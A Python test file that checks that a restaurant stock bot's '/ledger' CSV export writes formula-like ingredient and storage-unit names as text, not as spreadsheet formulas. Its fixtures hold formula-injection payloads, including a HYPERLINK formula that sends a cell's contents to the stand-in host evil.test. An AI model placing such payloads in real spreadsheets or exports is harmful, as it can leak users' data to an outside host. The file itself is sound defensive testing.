"""``/ledger``'s CSV file over real HTTP: names that a spreadsheet would run as formulas are
written as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from stockpot.core.catalog.importer import import_catalog
from stockpot.core.csv_export import csv_text
from stockpot.core.mapping import import_mappings
from stockpot.core.transfer.lines import RawInput, SaleLine
from stockpot.core.transfer.runner import run_transfer
from tests.bot.conftest import ADMIN
from tests.catalogs import ids

DAY = date(2026, 11, 27)
HOSTILE_UNIT = '=HYPERLINK("http://evil.test/?x="&A1,"Kitchen")'
HOSTILE = ['=HYPERLINK("http://evil.test","Flour")', "+1+1", "-2+3", "@SUM(A1)"]
NAMES = [*HOSTILE, *(f"Ingredient {n}" for n in range(30))]


def _catalog() -> str:
    ingredients = "\n".join(f"  - {{name: '{name}', base_unit: kg}}" for name in NAMES)
    return (
        f"company: Trattoria Esempio\nstorage_units:\n  - {{name: '{HOSTILE_UNIT}'}}\n"
        f"ingredients:\n{ingredients}\n"
        f"csv_connections:\n  - name: Evil till\n    locations:\n"
        f"      - {{name: Evil room, storage_unit: '{HOSTILE_UNIT}'}}\n"
    )


def _mappings() -> str:
    entries = "\n".join(
        f"  - {{pos_code: 'c{n}', ingredient: '{name}', quantity: 1}}"
        for n, name in enumerate(NAMES)
    )
    return f"company: Trattoria Esempio\nconnection: csv:Evil till\nmappings:\n{entries}\n"


def test_the_ledger_file_writes_formula_names_as_text(bot):
    import_catalog(bot.database.factory, _catalog(), source="catalog.yaml")
    import_mappings(bot.database.factory, _mappings(), source="mappings.yaml")
    with bot.database.session() as session:
        location = ids(session)["location:Evil room"]
    lines = [SaleLine("S1", f"L{n}", f"c{n}", name, Decimal(n + 1)) for n, name in enumerate(NAMES)]
    run_transfer(bot.database.factory, location, DAY, lines, RawInput("test", "[]"))

    bot.send.command("/ledger", DAY.isoformat(), user=ADMIN)
    bot.slack.wait_for("files.completeUploadExternal")
    (content,) = bot.slack.uploads.values()
    rows = list(csv.reader(io.StringIO(content.decode())))
    assert rows[0] == ["storage_unit", "ingredient", "unit", "quantity", "movements"]
    written = {row[1]: row for row in rows[1:]}
    assert len(written) == len(NAMES)
    for n, name in enumerate(NAMES):
        row = written["'" + name if name in HOSTILE else name]
        assert row[0] == "'" + HOSTILE_UNIT
        assert row[3] == str(-(n + 1)), "numbers stay numbers, negative ones too"
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@")) and not row[1].startswith(
            ("=", "+", "-", "@")
        )


def test_one_writer_neutralises_every_text_cell():
    text = csv_text(["=a", "b"], [["=1+1", Decimal("-1.50")], ["\t=x", 3], [None, "plain"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=a", "b"],
        ["'=1+1", "-1.5"],
        ["'\t=x", "3"],
        ["", "plain"],
    ]
